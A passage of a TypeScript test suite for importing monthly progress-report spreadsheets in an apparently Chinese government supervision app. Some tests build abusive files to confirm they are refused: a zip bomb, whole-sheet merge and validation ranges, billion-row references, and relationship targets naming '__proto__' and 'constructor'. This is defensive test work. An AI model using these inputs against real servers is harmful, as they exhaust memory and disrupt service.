	it('reads an approved report with line breaks kept as \\r\\n, or a DEL, back from its own .xlsx and .csv as unchanged, for everyone', async () => {
		// A browser sends a text area's line breaks as \r\n; reports kept so before forms wrote \n. A DEL
		// (U+007F, kept before forms dropped it) is dropped by exceljs as it writes.
		const { item, writer } = unsentItemOfAnotherUnit((i) => i.leadUnitId !== staff.unitId);
		const texts = { progress: '第一行\r\n第二\u007F行\r第三行', problems: '无。\r\n', nextSteps: '继续推进。\r\n再报。' };
		const { sent, office } = sentAndApproved(item, writer, texts);
		expect(t.db.select().from(progressReport).where(eq(progressReport.id, sent.id)).get()!.progress).toBe(texts.progress);
		await expectReadBackUnchanged(monthlySummary(t.db, MONTH, TODAY), item.code, [writer, office, staff], (row) =>
			expect(row.progress).toBe('第一行\n第二行\n第三行')
		);
	});

	it('takes two completion lines of one title for two milestones of that title, and refuses a third', async () => {
		// Titles may repeat (a yearly task added twice); each line takes one open milestone of its title.
		const { item, writer } = unsentItemOfAnotherUnit(() => true);
		const office = sessionUser('supervisor');
		const title = '完成年度重点工作';
		const added = [0, 1].map((n) =>
			addMilestone(
				t.db,
				item.id,
				{ title, dueOn: TODAY, weight: 1, position: 90 + n },
				{ at: ctx().at, actor: office, actorId: office.id }
			)!
		);
		const lines = (n: number) =>
			[`✓ ${title}（2026-11-20）`, `✓ ${title}（2026-11-21）`, `✓ ${title}（2026-11-22）`].slice(0, n).join('\n');
		const ledger = (n: number) =>
			filledXlsx(item.code, (row, col) => {
				row.getCell(col('具体举措/节点')).value = lines(n);
				row.getCell(col('本月进展')).value = '两项年度工作均已完成。';
				row.getCell(col('存在问题')).value = '无。';
				row.getCell(col('下步打算')).value = '继续推进。';
				row.getCell(col('佐证材料')).value = '工作总结';
			});

		const three = await readImportFile('十一月.xlsx', await ledger(3), MONTH);
		const refused = planImport(t.db, writer, MONTH, three.rows, TODAY);
		expect(refused.issues).toEqual([expect.objectContaining({ column: '具体举措/节点', message: expect.stringContaining(title) })]);

		const two = await readImportFile('十一月.xlsx', await ledger(2), MONTH);
		const plan = planImport(t.db, writer, MONTH, two.rows, TODAY);
		expect(plan.issues).toEqual([]);
		expect(applyImport(t.db, writer, MONTH, rowsAsPreviewed(two.rows, plan.changes), ctx(), TODAY)).toBe(1);
		const report = getInitiative(t.db, item.code, TODAY)!.reports.find((r) => r.month === MONTH)!;
		const met = t.db.select().from(reportMilestone).where(eq(reportMilestone.reportId, report.id)).all();
		expect(met.map((r) => [r.milestoneId, r.completedOn])).toEqual(
			expect.arrayContaining([
				[added[0].id, '2026-11-20'],
				[added[1].id, '2026-11-21']
			])
		);
	});

	it('refuses abusive files fast, before the work they would cause', async () => {
		const started = Date.now();
		const newlines = Buffer.concat([Buffer.from('月份,类别/分组\n'), Buffer.alloc(300_000, 10)]);
		await expect(readImportFile('n.csv', new Uint8Array(newlines), MONTH)).rejects.toThrow(/行数过多/);
		const commas = Buffer.alloc(4_000_000, 44);
		await expect(readImportFile('c.csv', new Uint8Array(commas), MONTH)).rejects.toThrow(/分隔符过多/);
		// A sheet whose XML inflates to 200 MB from well under a megabyte.
		const zip = new JSZip();
		zip.file('[Content_Types].xml', '<Types/>');
		zip.file('xl/worksheets/sheet1.xml', '<x>' + ' '.repeat(200 * 1024 * 1024) + '</x>');
		const bomb = await zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE', compressionOptions: { level: 9 } });
		expect(bomb.length).toBeLessThan(1024 * 1024);
		await expect(readImportFile('bomb.xlsx', bomb, MONTH)).rejects.toThrow(/解压后超过/);
		expect(Date.now() - started).toBeLessThan(20_000);
	});

	it('refuses merges no ledger has before exceljs would make a cell of each, and reads a validation over the whole sheet as nothing', async () => {
		// Read whole (a U+FFFD in a cell sends it there), exceljs made a cell of every cell a merge or a
		// validation covers: N1:XFD1048576 in a file of 18 KB ran the server out of memory.
		const sheetEnd = (more: string) => (xml: string) => xml.replace('</sheetData>', `</sheetData>${more}`);
		const merged = (...refs: string[]) =>
			sheetEnd(`<mergeCells count="${refs.length}">${refs.map((r) => `<mergeCell ref="${r}"/>`).join('')}</mergeCells>`);
		for (const order of [(b: Uint8Array) => Promise.resolve(b), workbookFirst]) {
			const read = async (edit: (xml: string) => string) => readImportFile('x.xlsx', await order(await smallLedger(edit, '\uFFFD')), MONTH);
			await expect(read(merged('N1:XFD1048576'))).rejects.toThrow('合并单元格 N1:XFD1048576 超出月报台账的行列范围');
			await expect(read(merged(...Array.from({ length: 10_001 }, (_, i) => `N${(i % 2000) + 1}:O${(i % 2000) + 1}`)))).rejects.toThrow(
				/合并单元格超过 10000 处/
			);
			await expect(read(sheetEnd('<mergeCells count="1"><mergeCell/></mergeCells>'))).rejects.toThrow(/无法读取文件中的合并单元格/);
			const validated = await read(
				sheetEnd(
					'<dataValidations count="1"><dataValidation type="list" sqref="A1:XFD1048576"><formula1>"是,否"</formula1></dataValidation></dataValidations>'
				)
			);
			expect(validated.rows.map((r) => r.code)).toEqual(smallLedgerCodes);
		}
	});

	it('reads only the cells of the first tab: ranges a sheet names elsewhere make no work, wherever its part is', async () => {
		// Each of these ran the server out of memory or held it for half a minute when exceljs read the file whole.
		const edits: [string, (xml: string) => string][] = [
			['columns 14 to 30,000,000', (xml) => xml.replace('<sheetData', '<cols><col min="14" max="30000000" width="9"/></cols><sheetData')],
			['an empty row numbered 1,000,000,000', (xml) => xml.replace('</sheetData>', '<row r="1000000000"/></sheetData>')],
			[
				'conditional formatting of the whole sheet',
				(xml) =>
					xml.replace(
						'</sheetData>',
						'</sheetData><conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="1"><formula>TRUE</formula></cfRule></conditionalFormatting>'
					)
			]
		];
		for (const [what, edit] of edits) {
			const read = await readImportFile('x.xlsx', await smallLedger(edit, '\uFFFD'), MONTH);
			expect(
				read.rows.map((r) => r.code),
				what
			).toEqual(smallLedgerCodes);
		}
		// A value past the ledger's rows is named, however far.
		await expect(
			readImportFile(
				'x.xlsx',
				await smallLedger((xml) =>
					xml.replace('</sheetData>', '<row r="1000000000"><c r="A1000000000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
				),
				MONTH
			)
		).rejects.toThrow(/第 1000000000 行/);
		// The first tab's sheet is found by the workbook's relationships, not by the name of its part; a sheet no tab names is not read.
		const zip = await JSZip.loadAsync(await smallLedger((xml) => xml));
		zip.file('xl/worksheets/ledger.xml', await zip.file('xl/worksheets/sheet1.xml')!.async('string'));
		zip.remove('xl/worksheets/sheet1.xml');
		zip.file(
			'xl/_rels/workbook.xml.rels',
			(await zip.file('xl/_rels/workbook.xml.rels')!.async('string')).replace('worksheets/sheet1.xml', 'worksheets/ledger.xml')
		);
		zip.file(
			'zz/xl/worksheets/sheet9.xml',
			'<worksheet><sheetData/><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
		);
		const renamed = await readImportFile('x.xlsx', await zip.generateAsync({ type: 'uint8array' }), MONTH);
		expect(renamed.rows.map((r) => r.code)).toEqual(smallLedgerCodes);
		// A target naming no part of the zip (nor an object's own names) is a workbook that cannot be read.
		for (const target of ['../__proto__', '../constructor', 'worksheets/none.xml']) {
			zip.file(
				'xl/_rels/workbook.xml.rels',
				(await zip.file('xl/_rels/workbook.xml.rels')!.async('string')).replace(
					/worksheets\/ledger\.xml|\.\.\/__proto__|\.\.\/constructor/,
					target
				)
			);
			await expect(readImportFile('x.xlsx', await zip.generateAsync({ type: 'uint8array' }), MONTH), target).rejects.toThrow(
				/无法读取该 Excel 文件/
			);
		}
	});

	it('sees a merge however its XML spells it, as Excel and LibreOffice do', async () => {
		const progress = String.fromCharCode(64 + summaryColumns.findIndex((c) => c.header === '本月进展') + 1);
		const range = `${progress}4:${progress}5`;
		for (const tag of [
			`<mergeCell ref="${range}"/>`,
			`<mergeCell ref="${range.toLowerCase()}"/>`,
			`<mergeCell ref='${range}'/>`,
			`<mergeCell ref = "${range}" />`,
			`<mergeCell ref="&#${progress.charCodeAt(0)};4:${progress}5"/>`,
			`<mergeCell foo="a>b" ref="${range}"/>`
		]) {
			const file = await smallLedger((xml) => xml.replace('</sheetData>', `</sheetData><mergeCells count="1">${tag}</mergeCells>`));
			for (const bytes of [file, await workbookFirst(file)]) {
				const read = await readImportFile('x.xlsx', bytes, MONTH);
				expect(read.issues, tag).toEqual([
					expect.objectContaining({ line: 5, column: '本月进展', message: expect.stringContaining(range) })
				]);
			}
		}
	});
});

describe('rows the import must not misread', () => {
	const texts = { 本月进展: '推进中。', 存在问题: '无。', 下步打算: '继续。' };
	const filled = (code: string, cells: Record<string, ExcelJS.CellValue>) =>
		filledXlsx(code, (row, col) => {
			for (const [header, value] of Object.entries({ ...texts, ...cells })) row.getCell(col(header)).value = value;
		});

	it('reads an item code retyped in full width or lower case, and names a reported row without one', async () => {
		const item = getInitiative(t.db, 'ECO-04', TODAY)!;
		for (const task of [`ＥＣＯ－０４ ${item.title}`, `eco-04 ${item.title}`]) {
			const read = await readImportFile('c.xlsx', await filled('ECO-04', { 重点任务: task }), MONTH);
			expect(read.rows.find((r) => r.line && r.progress === '推进中。')?.code, task).toBe('ECO-04');
		}
		// The code lost (a title alone, a dash of another kind): the row is an error, never skipped.
		for (const task of [item.title, `ECO–04 ${item.title}`]) {
			const read = await readImportFile('c.xlsx', await filled('ECO-04', { 重点任务: task }), MONTH);
			expect(
				read.rows.some((r) => r.progress === '推进中。'),
				task
			).toBe(false);
			expect(read.issues, task).toContainEqual(
				expect.objectContaining({ column: '重点任务', message: expect.stringContaining('找不到任务编号') })
			);
		}
	});

	it("names a cell's first unreadable tick line once, however many it holds", async () => {
		const read = await readImportFile(
			't.xlsx',
			await filled('ECO-04', { '具体举措/节点': Array.from({ length: 2_000 }, (_, i) => `✓ 第${i}项`).join('\n') }),
			MONTH
		);
		expect(read.issues).toEqual([expect.objectContaining({ column: '具体举措/节点', message: expect.stringContaining('“✓ 第0项”') })]);
	});

	it('reads a tick after a list number, names any other line with a tick, and refuses evidence without a milestone met', async () => {
		const open = getInitiative(t.db, 'ECO-04', TODAY)!.milestones.find((m) => m.completedOn === null)!;
		const numbered = await readImportFile(
			't.xlsx',
			await filled('ECO-04', { '具体举措/节点': `1. ✓ ${open.title}（2026-11-03）`, 佐证材料: '验收单' }),
			MONTH
		);
		expect(numbered.issues).toEqual([]);
		expect(numbered.rows.find((r) => r.code === 'ECO-04')?.completions).toEqual([{ title: open.title, date: '2026-11-03' }]);
		const elsewhere = await readImportFile(
			't.xlsx',
			await filled('ECO-04', { '具体举措/节点': `已完成 ✓ ${open.title}（2026-11-03）`, 佐证材料: '验收单' }),
			MONTH
		);
		expect(elsewhere.issues).toContainEqual(expect.objectContaining({ column: '具体举措/节点' }));
		const unticked = await readImportFile(
			't.xlsx',
			await filled('ECO-04', { '具体举措/节点': `已完成：${open.title}（2026-11-05）`, 佐证材料: '验收单' }),
			MONTH
		);
		// Checked in the plan, so that the apply (which has only the rows) refuses it too.
		const plan = planImport(t.db, staff, MONTH, unticked.rows, TODAY);
		expect(plan.issues).toContainEqual(expect.objectContaining({ column: '佐证材料', message: expect.stringContaining('✓ 节点名称') }));
	});

	it('names a tick on a milestone met before, and never drops the evidence typed beside it', async () => {
		// A milestone met before the month: the month's ledger lists no line of it.
		const metBefore = (i: NonNullable<ReturnType<typeof getInitiative>>) =>
			i.milestones.find(
				(m) =>
					m.completedOn !== null &&
					m.completedOn < `${MONTH}-01` &&
					!i.milestones.some((o) => o.completedOn === null && o.title === m.title)
			);
		const { item, writer } = unsentItemOfAnotherUnit((i) => metBefore(i) !== undefined);
		const met = metBefore(item)!;
		const texts = { 本月进展: '本月按计划推进。', 存在问题: '无。', 下步打算: '继续推进。' };
		const plan = async (line: string) => {
			const read = await readImportFile(
				't.xlsx',
				await filled(item.code, { ...texts, '具体举措/节点': line, 佐证材料: '验收报告' }),
				MONTH
			);
			expect(read.issues).toEqual([]);
			return planImport(t.db, writer, MONTH, read.rows, TODAY);
		};
		// Another day than it was met on: said so, and the evidence is refused, not stored nowhere.
		const otherDay = await plan(`✓ ${met.title}（2026-11-20）`);
		expect(otherDay.issues).toContainEqual(
			expect.objectContaining({
				column: '具体举措/节点',
				message: expect.stringContaining(`已于${formatDate(met.completedOn!, 'zh-CN')}完成`)
			})
		);
		expect(otherDay.issues).toContainEqual(expect.objectContaining({ column: '佐证材料', message: expect.stringContaining('✓ 节点名称') }));
		expect(otherDay.changes).toEqual([]);
		// The day it was met on: no claim, but evidence other than the ledger wrote has no milestone to go with.
		const sameDay = await plan(`✓ ${met.title}（${met.completedOn}）`);
		expect(sameDay.issues).toEqual([expect.objectContaining({ column: '佐证材料', message: expect.stringContaining('✓ 节点名称') })]);
		expect(sameDay.changes).toEqual([]);
	});

	it('reads a link by its text and the address it leads to, unless the text gives the address (as Excel links a typed one)', async () => {
		const links: [ExcelJS.CellValue, string][] = [
			[
				{ text: '见市住建局网站公示', hyperlink: 'https://zjj.suzhou.gov.cn/gs/2026/11.html' },
				'见市住建局网站公示（https://zjj.suzhou.gov.cn/gs/2026/11.html）'
			],
			[{ text: 'www.suzhou.gov.cn', hyperlink: 'http://www.suzhou.gov.cn/' }, 'www.suzhou.gov.cn'],
			[{ text: 'duban@suzhou.gov.cn', hyperlink: 'mailto:duban@suzhou.gov.cn' }, 'duban@suzhou.gov.cn'],
			[{ text: '见附表', hyperlink: 'Sheet2!A1' }, '见附表']
		];
		for (const [value, expected] of links) {
			const read = await readImportFile('l.xlsx', await filled('ECO-04', { 本月进展: value }), MONTH);
			expect(read.rows.find((r) => r.code === 'ECO-04')?.progress).toBe(expected);
		}
	});

	it('refuses evidence or a text past its limit rather than cutting it', async () => {
		const { item, writer } = unsentItemOfAnotherUnit((i) => i.milestones.some((m) => m.completedOn === null));
		const open = item.milestones.find((m) => m.completedOn === null)!;
		const evidence = '现场照片'.repeat(125) + '，另附照片😀';
		const read = await readImportFile(
			'e.xlsx',
			await filled(item.code, { '具体举措/节点': `✓ ${open.title}（2026-11-03）`, 佐证材料: evidence, 存在问题: '无'.repeat(2001) }),
			MONTH
		);
		expect(read.rows.find((r) => r.code === item.code)?.evidence).toBe(evidence);
		const plan = planImport(t.db, writer, MONTH, read.rows, TODAY);
		expect(plan.issues).toContainEqual(expect.objectContaining({ column: '佐证材料', message: expect.stringContaining('500') }));
		expect(plan.issues).toContainEqual(expect.objectContaining({ column: '存在问题', message: expect.stringContaining('2000') }));
	});

	it('reads back as unchanged, for everyone, a month whose 佐证材料 cell joins evidence past one milestone’s limit', async () => {
		// Two milestones met in the month with 442 characters of evidence each: the ledger writes both in one cell.
		const { item, writer } = unsentItemOfAnotherUnit((i) => i.milestones.filter((m) => m.completedOn === null).length >= 2);
		const [first, second] = item.milestones.filter((m) => m.completedOn === null);
		const evidence = '核查记录：' + '战略性新兴产业项目已竣工投产并通过第三方评估，'.repeat(19);
		const met = [first, second].map((ms, k) => ({ milestoneId: ms.id, completedOn: '2026-11-20', evidence: `${evidence}${k + 1}` }));
		const { office } = sentAndApproved(item, writer, { progress: '完成两项节点。', problems: '无。', nextSteps: '继续推进。' }, met);
		await expectReadBackUnchanged(monthlySummary(t.db, MONTH, TODAY), item.code, [writer, office, staff], (row) =>
			expect(row.evidence.length).toBeGreaterThan(500)
		);
	});

	it('writes evidence given once for several milestones once, and reads it back unchanged', async () => {
		// A ledger's row has one 佐证材料 cell for all its ticks: stored with each milestone, written once.
		const { item, writer } = unsentItemOfAnotherUnit((i) => i.milestones.filter((m) => m.completedOn === null).length >= 2);
		const [first, second] = item.milestones.filter((m) => m.completedOn === null);
		const met = [first, second].map((ms) => ({ milestoneId: ms.id, completedOn: '2026-11-21', evidence: '验收资料' }));
		sentAndApproved(item, writer, { progress: '两项节点一并完成。', problems: '无。', nextSteps: '继续推进。' }, met);
		const summary = monthlySummary(t.db, MONTH, TODAY);
		expect(summary.rows.find((r) => r.code === item.code)?.evidence).toBe('验收资料');
		await expectReadBackUnchanged(summary, item.code, [writer, sessionUser('supervisor')]);
	});

	it('refuses a number, a date or a truth value in a text column: what Excel showed is not in the file', async () => {
		for (const value of [0.8, new Date('2026-12-31T00:00:00Z'), true, { formula: 'A1*2', result: 4 }] as ExcelJS.CellValue[]) {
			const read = await readImportFile('n.xlsx', await filled('ECO-04', { 本月进展: value }), MONTH);
			expect(read.issues, String(value)).toContainEqual(
				expect.objectContaining({ column: '本月进展', message: expect.stringContaining('文本') })
			);
		}
	});

	it('refuses a cell of a shared text longer than any ledger holds before reading the rest (a file of kilobytes for gigabytes)', async () => {
		const book = new ExcelJS.Workbook();
		const sheet = book.addWorksheet('月报');
		const long = '长'.repeat(1_000_000);
		for (let r = 1; r <= 20; r++) sheet.addRow(Array.from({ length: 40 }, () => long));
		const bytes = new Uint8Array(await book.xlsx.writeBuffer());
		expect(bytes.length).toBeLessThan(100_000);
		await expect(readImportFile('s.xlsx', bytes, MONTH)).rejects.toThrow(/单元格 A1 超过 20000 字/);
		// Nor rows hundreds of cells wide, which a file with one misread character would then be read whole for.
		const wide = new ExcelJS.Workbook();
		wide.addWorksheet('月报').addRow(Array.from({ length: 760 }, (_, n) => n));
		await expect(readImportFile('w.xlsx', new Uint8Array(await wide.xlsx.writeBuffer()), MONTH)).rejects.toThrow(/超过 100 列/);
	});

	it('leaves a report returned to its unit to the unit, and says on the file what the form would refuse', async () => {
		const office = sessionUser('supervisor');
		const { item, writer } = unsentItemOfAnotherUnit((i) => i.milestones.some((m) => m.completedOn === null));
		const sent = saveReport(
			t.db,
			writer,
			item.id,
			MONTH,
			{
				progress: '单位的进展',
				problems: '单位的问题',
				nextSteps: '单位的打算',
				milestonesMet: [],
				version: item.reports.find((r) => r.month === MONTH)?.version ?? null,
				submit: true
			},
			{ ...ctx(), actorId: writer.id },
			TODAY
		);
		const returned = returnReport(t.db, sent.id, sent.version, '请补充。', { ...ctx(), actor: office, actorId: office.id });
		const row = { line: 9, code: item.code, progress: '督查室代填', problems: '无', nextSteps: '继续', completions: [], evidence: '' };
		expect(planImport(t.db, office, MONTH, [row], TODAY).issues).toEqual([
			expect.objectContaining({ line: 9, message: expect.stringContaining('已退回牵头单位修改') })
		]);
		const save = () =>
			saveReport(t.db, office, item.id, MONTH, { ...row, milestonesMet: [], version: returned.version, submit: true }, ctx(), TODAY);
		expect(save).toThrow(/已退回牵头单位修改/);
		expect(t.db.select().from(progressReport).where(eq(progressReport.id, sent.id)).get()).toMatchObject({
			status: 'returned',
			progress: '单位的进展'
		});
		// The unit itself may correct it from its ledger; a milestone met before the item started is named on its column.
		const open = item.milestones.find((m) => m.completedOn === null)!;
		const early = planImport(
			t.db,
			writer,
			MONTH,
			[{ ...row, completions: [{ title: open.title, date: '2000-01-01' }], evidence: '材料' }],
			TODAY
		);
		expect(early.issues).toContainEqual(expect.objectContaining({ column: '具体举措/节点', message: expect.stringContaining('开始') }));
		// A month the form refuses (more than two years back) is named on the row, not left to the apply to fail unseen.
		const old = t.db.get<{ code: string; month: string }>(sql`
			SELECT i.code AS code, '2024-03' AS month FROM initiative i
			WHERE i.status = 'active' AND NOT EXISTS (SELECT 1 FROM progress_report r WHERE r.initiative_id = i.id AND r.month = '2024-03')`);
		const tooOld = planImport(t.db, office, old.month, [{ ...row, code: old.code }], TODAY);
		expect(tooOld.issues).toEqual([expect.objectContaining({ line: 9, column: '重点任务', message: expect.stringContaining(old.code) })]);
	});

	it('lists in this month’s 月报 a milestone met last month and reported now (补报), with its evidence, and reads it back unchanged', async () => {
		const { item, writer } = unsentItemOfAnotherUnit((i) => i.milestones.some((m) => m.completedOn === null && m.title.length > 0));
		const open = item.milestones.find((m) => m.completedOn === null)!;
		const met = [{ milestoneId: open.id, completedOn: '2026-10-31', evidence: '补报的验收单' }];
		const { office } = sentAndApproved(
			item,
			writer,
			{ progress: '上月底完成的节点本月补报。', problems: '无。', nextSteps: '继续推进。' },
			met
		);
		const november = monthlySummary(t.db, MONTH, TODAY);
		const row = november.rows.find((r) => r.code === item.code)!;
		expect(measuresText(row.measures)).toContain(`✓ ${open.title}（2026-10-31）`);
		expect(row.evidence).toContain('补报的验收单');
		expect(row.remark).toContain('补报此前完成的节点 1 个');
		// October's 月报 is as it stood at October's end: the milestone was not met in it then.
		expect(measuresText(monthlySummary(t.db, '2026-10', TODAY).rows.find((r) => r.code === item.code)!.measures)).not.toContain(
			`✓ ${open.title}`
		);
		await expectReadBackUnchanged(november, item.code, [writer, office]);
	});
});

describe("a closed month's ledger after the office changed its milestones", () => {
	it('reads back unchanged, for every reader, once a milestone met that month is renamed and another removed', async () => {
		const OCTOBER = '2026-10';
		const metIn = (ms: { completedOn: string | null }) => ms.completedOn?.startsWith(OCTOBER) ?? false;
		const items = t.db
			.select()
			.from(initiative)
			.all()
			.map((i) => getInitiative(t.db, i.code, TODAY)!)
			.filter((i) => i.status === 'active' && i.milestones.some(metIn) && i.leadUnitId !== null);
		const [renamedIn, removedIn] = items;
		expect(removedIn).toBeDefined();
		const october = monthlySummary(t.db, OCTOBER, TODAY);
		const office = sessionUser('supervisor');
		const later = { at: new Date(FIXED_NOW.getTime() + 3 * 3600_000).toISOString(), actorId: office.id, actor: office };
		const renamed = renamedIn.milestones.find(metIn)!;
		updateTracked(t.db, milestone, renamed.id, { title: '改名后的节点' }, later);
		const removed = removedIn.milestones.find(metIn)!;
		updateTracked(t.db, milestone, removed.id, { removedAt: later.at }, later);
		// The closed month is kept as it was: its file still names them as they read then.
		expect(JSON.stringify(monthlySummary(t.db, OCTOBER, TODAY))).toBe(JSON.stringify(october));
		const readers = [office, staff, sessionUser('staff-gxj')];
		for (const kind of ['xlsx', 'csv'] as const) {
			const read = await readImportFile(`十月.${kind}`, await exportFormats[kind].render(october), OCTOBER);
			expect(JSON.stringify(read.rows.find((r) => r.code === renamedIn.code)!.completions)).toContain(renamed.title);
			for (const who of readers) {
				const plan = planImport(t.db, who, OCTOBER, read.rows, TODAY);
				expect(plan.issues, `${kind} as ${who.username}`).toEqual([]);
				expect(plan.changes).toEqual([]);
			}
		}
	});
});

describe('files that are not what their names say, and what Excel shows but does not keep', () => {
	const november = () => monthlySummary(t.db, MONTH, TODAY);

	it('names what a file is when its name says another kind, instead of a wrong reason', async () => {
		const xlsx = await exportFormats.xlsx.render(november());
		const csv = await exportFormats.csv.render(november());
		const docx = await exportFormats.docx.render(november());
		await expect(readImportFile('十一月.csv', xlsx, MONTH)).rejects.toThrow(/扩展名改回 \.xlsx/);
		await expect(readImportFile('十一月.xlsx', csv, MONTH)).rejects.toThrow(/扩展名改为 \.csv/);
		for (const name of ['十一月.xlsx', '十一月.csv']) await expect(readImportFile(name, docx, MONTH)).rejects.toThrow(/是 Word 文档/);
		const pdf = Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj<<>>endobj\n');
		for (const name of ['十一月.xlsx', '十一月.csv']) await expect(readImportFile(name, pdf, MONTH)).rejects.toThrow(/是 PDF 文件/);
		const ods = new JSZip();
		ods.file('mimetype', 'application/vnd.oasis.opendocument.spreadsheet');
		ods.file('content.xml', '<office:document-content/>');
		const odsBytes = await ods.generateAsync({ type: 'uint8array' });
		await expect(readImportFile('十一月.xlsx', odsBytes, MONTH)).rejects.toThrow(/OpenDocument 表格/);
		// An OLE compound file: an .xls, or an .xlsx locked with a password to open it.
		const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
		for (const name of ['锁定.xlsx', '旧版.csv'])
			await expect(readImportFile(name, ole, MONTH)).rejects.toThrow(/旧版 Excel 工作簿（\.xls）/);
	});

	it('reads a CSV separated by semicolons or tabs, in UTF-16, or saved from the workbook with its title rows, as the exported one', async () => {
		const exported = await readImportFile('十一月.csv', await exportFormats.csv.render(november()), MONTH);
		const lines = parseCsv(new TextDecoder().decode(await exportFormats.csv.render(november())), { bom: true }) as string[][];
		const quoted = (cell: string) => `"${cell.replace(/"/g, '""')}"`;
		const joined = (separator: string, table: string[][]) => table.map((l) => l.map(quoted).join(separator)).join('\r\n');
		const variants = {
			semicolons: Buffer.from(joined(';', lines)),
			tabs: Buffer.from(joined('\t', lines)),
			'UTF-16': Buffer.from(`\uFEFF${joined(',', lines)}`, 'utf16le'),
			// LibreOffice's or Excel's "save as CSV" of the workbook: its title and summary rows, then the header, no month column.
			'title rows': Buffer.from(joined(',', [[summaryTitle(MONTH)], ['截至…'], ...lines.map((l) => l.slice(2))]))
		};
		for (const [what, bytes] of Object.entries(variants)) {
			const read = await readImportFile('十一月.csv', bytes, MONTH);
			expect(read.issues, what).toEqual([]);
			expect(
				read.rows.map(({ code, progress, evidence }) => ({ code, progress, evidence })),
				what
			).toEqual(exported.rows.map(({ code, progress, evidence }) => ({ code, progress, evidence })));
		}
		await expect(readImportFile('十一月.csv', variants['title rows'], '2026-10')).rejects.toThrow(/不是 2026-10 的月报/);
		// The separator is the header's: texts full of semicolons or tabs do not make it theirs.
		const progress = lines[0].indexOf('本月进展');
		const semicolons = lines.map((l, i) =>
			i === 1 ? l.map((cell, c) => (c === progress ? 'a;b;c;d;e;f;g;h;i;j;k;l;m;n;o;p;q;r' : cell)) : l
		);
		const read = await readImportFile('十一月.csv', Buffer.from(joined(',', semicolons)), MONTH);
		expect(read.issues).toEqual([]);
		expect(read.rows[0].progress).toBe('a;b;c;d;e;f;g;h;i;j;k;l;m;n;o;p;q;r');
	});

	it('refuses a cell merged over two items, or over two columns it reads, naming the cells; a merge of columns it does not read is fine', async () => {
		const book = new ExcelJS.Workbook();
		await book.xlsx.load((await exportFormats.xlsx.render(november())) as unknown as ArrayBuffer);
		const sheet = book.getWorksheet('月报')!;
		const col = (h: string) => summaryColumns.findIndex((c) => c.header === h) + 1;
		const rowOf = (code: string) => {
			let found = 0;
			sheet.eachRow((row) => {
				if (String(row.getCell(col('重点任务')).value).startsWith(`${code} `)) found = row.number;
			});
			return found;
		};
		// Two items next to each other in the ledger.
		const rows = t.db
			.select({ code: initiative.code })
			.from(initiative)
			.all()
			.map((i) => [i.code, rowOf(i.code)] as const);
		const first = rows.find(([, r]) => rows.some(([, s]) => s === r + 1))!;
		const second = rows.find(([, s]) => s === first[1] + 1)!;
		const letter = (n: number) => String.fromCharCode(64 + n);
		const merged = async (ranges: string[]) => {
			const copy = new ExcelJS.Workbook();
			await copy.xlsx.load((await book.xlsx.writeBuffer()) as ArrayBuffer);
			const s = copy.getWorksheet('月报')!;
			for (const range of ranges) {
				s.getCell(range.split(':')[0]).value = '两项合并填写的进展';
				s.mergeCells(range);
			}
			return new Uint8Array(await copy.xlsx.writeBuffer());
		};
		// Read as it comes (whole) and as Excel orders a workbook (streamed): the same either way.
		const issuesOf = async (ranges: string[]) => {
			const file = await merged(ranges);
			const [whole, streamed] = [
				await readImportFile('合并.xlsx', file, MONTH),
				await readImportFile('合并.xlsx', await workbookFirst(file), MONTH)
			];
			expect(streamed.issues).toEqual(whole.issues);
			return whole.issues;
		};
		const progress = letter(col('本月进展'));
		const down = `${progress}${first[1]}:${progress}${second[1]}`;
		expect(await issuesOf([down])).toEqual([
			{ line: second[1], column: '本月进展', message: expect.stringMatching(new RegExp(`合并单元格 ${down}.*${progress}${first[1]} 格`)) }
		]);
		const across = `${progress}${first[1]}:${letter(col('存在问题'))}${first[1]}`;
		expect(await issuesOf([across])).toEqual([expect.objectContaining({ line: first[1], column: '存在问题' })]);
		const unit = letter(col('牵头单位'));
		const leader = letter(col('责任领导'));
		const overUnread = [`${unit}${first[1]}:${unit}${second[1]}`, `${leader}${first[1]}:${leader}${second[1]}`];
		expect(await issuesOf(overUnread)).toEqual([]);
		// Those cells read as Excel shows them, the merged text on both rows: never "the file holds nothing".
		const plan = planImport(t.db, staff, MONTH, (await readImportFile('合并.xlsx', await merged(overUnread), MONTH)).rows, TODAY);
		const shown = (await readImportFile('合并.xlsx', await merged(overUnread), MONTH)).rows.find((r) => r.line === second[1])!;
		expect(shown.unread).toMatchObject({ leadUnit: '两项合并填写的进展', leader: '两项合并填写的进展' });
		expect(plan.notes.filter((n) => n.line === second[1]).map((n) => n.message)).not.toContainEqual(
			expect.stringMatching(/^文件中为（空）/)
		);
	});

	it("says which cells of columns it does not read differ from the item (a deadline moved in the file), and a unit's unsent text it replaces", async () => {
		const { item, writer } = unsentItemOfAnotherUnit((i) => i.dueOn !== null && i.leader !== null);
		const code = item.code;
		const onlyDue = await filledXlsx(code, (row, col) => {
			row.getCell(col('完成时限')).value = '2030-12-31';
		});
		const due = planImport(t.db, writer, MONTH, (await readImportFile('x.xlsx', onlyDue, MONTH)).rows, TODAY);
		expect(due.changes).toEqual([]);
		expect(due.issues).toEqual([]);
		expect(due.notes).toEqual([
			expect.objectContaining({ column: '完成时限', message: expect.stringMatching(/“2030-12-31”.*“.*”.*延期申请/) })
		]);
		// A date typed as a date (the file keeps a day count): the same date, nothing to say.
		const [y, mo, d] = item.dueOn!.split('-').map(Number);
		const asDate = await filledXlsx(code, (row, col) => {
			row.getCell(col('完成时限')).value = new Date(Date.UTC(y, mo - 1, d));
		});
		for (const bytes of [asDate, await workbookFirst(asDate)])
			expect(planImport(t.db, writer, MONTH, (await readImportFile('x.xlsx', bytes, MONTH)).rows, TODAY).notes).toEqual([]);
		// Retyped the same (another spelling of the date, no ★, the title's spaces): nothing to say.
		const same = await filledXlsx(code, (row, col) => {
			row.getCell(col('完成时限')).value =
				`${item.dueOn!.slice(0, 4)}年${Number(item.dueOn!.slice(5, 7))}月${Number(item.dueOn!.slice(8))}日`;
			row.getCell(col('牵头单位')).value = item.leadUnitName;
			row.getCell(col('重点任务')).value = `${code.toLowerCase()}  ${item.title} `;
		});
